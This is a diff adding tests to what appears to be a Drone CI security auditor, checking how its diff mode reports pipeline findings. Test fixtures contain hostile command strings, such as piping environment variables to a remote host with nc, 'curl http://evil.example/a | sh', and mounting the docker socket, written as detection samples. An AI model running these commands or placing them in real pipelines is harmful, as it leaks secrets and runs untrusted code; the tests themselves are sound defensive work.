@@ -60,6 +60,64 @@ describe.skipIf(!hasGit)('--diff', () => {
     expect(baseline?.known).toBeGreaterThan(3);
   });
 
+  const step = (name: string, lines: readonly string[]): string =>
+    [`  - name: ${name}`, '    image: alpine@sha256:aa', ...lines.map((line) => `    ${line}`), ''].join('\n');
+  const commands = (...each: string[]): readonly string[] => ['commands:', ...each.map((one) => `  - ${one}`)];
+  const socket = 'volumes:\n  - name: sock\n    host: {path: /var/run/docker.sock}\n';
+  const mounts = ['commands: [make]', 'volumes:', '  - {name: sock, path: /var/run/docker.sock}'];
+
+  it.each([
+    [
+      'credentials-sent-out',
+      [step('a', commands('env | nc 203.0.113.7 4444'))],
+      step('a', commands('env | nc 203.0.113.7 4444', 'env | nc 198.51.100.9 4444')),
+    ],
+    [
+      'remote-script',
+      [step('a', commands('curl https://x.example/a | sh'))],
+      step('a', commands('curl https://x.example/a | sh', 'curl http://evil.example/a | sh')),
+    ],
+    [
+      'remote-script',
+      [step('a', commands('curl https://x.example/a | sh'))],
+      step('a', commands('curl https://x.example/a | sh', 'curl https://x.example/a | sh')),
+    ],
+    ['docker-socket-volume', [step('a', mounts), socket], [step('a', mounts), step('evil', mounts), socket]],
+    [
+      'secret-with-repository-code',
+      [step('a', ['environment: {A: {from_secret: a}}', ...commands('make')])],
+      step('a', ['environment: {A: {from_secret: a}, PROD: {from_secret: root}}', ...commands('make')]),
+    ],
+    [
+      'secret-with-repository-code',
+      [step('a', ['environment: {A: {from_secret: a}}', ...commands('make')])],
+      step('a', ['environment: {A: {from_secret: root}}', ...commands('make')]),
+    ],
+  ])('does not know a further place of a known %s, and knows what a mended one leaves', (rule, before, after) => {
+    const event = (text: string): string => text.replace('[push]', '[push, pull_request]');
+    const now = [after].flat();
+    const folder = repository({ '.drone.yml': event(pipeline(before)) });
+    commitFiles(folder, { '.drone.yml': event(pipeline(now)) });
+    expect(diff(folder, 'main').findings).toContain(`.drone.yml ${rule}`);
+    if (rule === 'secret-with-repository-code') return;
+    git(folder, ['branch', 'both']);
+    commitFiles(folder, { '.drone.yml': event(pipeline(before)) });
+    expect(diff(folder, 'both').findings).toEqual([]);
+  });
+
+  it('sees the seventh secret of a step', () => {
+    const secrets = (amount: number): string =>
+      Array.from({ length: amount }, (_, at) => `S${at}: {from_secret: s${at}}`).join(', ');
+    const holds = (amount: number): string =>
+      pipeline([step('a', [`environment: {${secrets(amount)}}`, ...commands('make')])]);
+    const folder = repository({ '.drone.yml': holds(6) });
+    commitFiles(folder, { '.drone.yml': holds(7) });
+    expect(diff(folder, 'main').findings).toEqual(['.drone.yml secret-with-repository-code']);
+    git(folder, ['branch', 'seven']);
+    commitFiles(folder, { '.drone.yml': holds(6) });
+    expect(diff(folder, 'seven').findings).toEqual([]);
+  });
+
   it('compares installations, not lines: a change of variables opens a finding of the compose file', () => {
     const folder = repository({ 'docker-compose.yml': compose, 'server.env': closed });
     commitFiles(folder, { 'server.env': open });
@@ -244,6 +302,34 @@ describe.skipIf(!hasGit)('--diff', () => {
     const { status, findings, baseline } = diff(folder, 'main', '--targets-from', 'list');
     expect([status, findings]).toEqual([1, ['a/.drone.yml remote-script']]);
     expect(baseline).toMatchObject({ known: 1, fixed: 1 });
+  });
+
+  it('takes the config of before, also where a link from elsewhere leads to it', () => {
+    const folder = repository({ '.drone.yml': pipeline([build]) });
+    const ignore = 'ignore:\n  - {rule: remote-script, reason: ours}\n';
+    commitFiles(folder, { '.drone.yml': pipeline([build, script]), 'drone-audit.yml': ignore });
+    const link = join(temporaryFolder(), 'link');
+    symlinkSync(folder, link);
+    for (const config of ['drone-audit.yml', join(link, 'drone-audit.yml')])
+      expect(diff(folder, 'main', '--config', config)).toMatchObject({ status: 2, stdout: '' });
+    git(folder, ['checkout', '-q', 'main']);
+    commitFiles(folder, { 'drone-audit.yml': 'ignore: []\n' });
+    git(folder, ['checkout', '-q', '-B', 'change']);
+    commitFiles(folder, { '.drone.yml': pipeline([build, script]), 'drone-audit.yml': ignore });
+    for (const config of ['drone-audit.yml', join(link, 'drone-audit.yml')])
+      expect(diff(folder, 'main', '--config', config).findings).toEqual(['.drone.yml remote-script']);
+  });
+
+  it('knows what is said of a whole file, whatever its first line is', () => {
+    const folder = repository({ 'server.env': open });
+    for (const text of [
+      `# production\n${open}`,
+      open.replace('ci.example.com', 'drone.example.com'),
+      open.split('\n').toReversed().join('\n'),
+    ]) {
+      commitFiles(folder, { 'server.env': text });
+      expect(diff(folder, 'main')).toMatchObject({ findings: [], baseline: { fixed: 0 } });
+    }
   });
 
   it('needs no git program, and runs nothing that the repository names', () => {
